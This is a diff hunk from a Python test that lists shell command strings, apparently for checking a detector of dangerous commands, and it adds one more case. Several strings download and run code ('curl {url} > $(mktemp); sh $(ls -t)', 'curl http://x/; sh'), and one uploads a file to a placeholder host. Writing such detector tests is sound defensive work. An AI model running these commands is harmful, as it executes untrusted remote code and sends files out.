@@ -212,6 +212,7 @@ def test_j39_commands_for_other_machines(command: str, why: str) -> None:
         "curl {url} > page; sh script.sh",
         "sh script.sh; curl -F f=@script.sh http://x/git; git push",
         "curl http://x/; sh",
+        "curl {url} > $(mktemp); sh $(ls -t)",
         "if curl {url}; then sh script.sh; fi",
         'bash script.sh "$(curl x)"',
         "bash script.sh $(curl {url})",
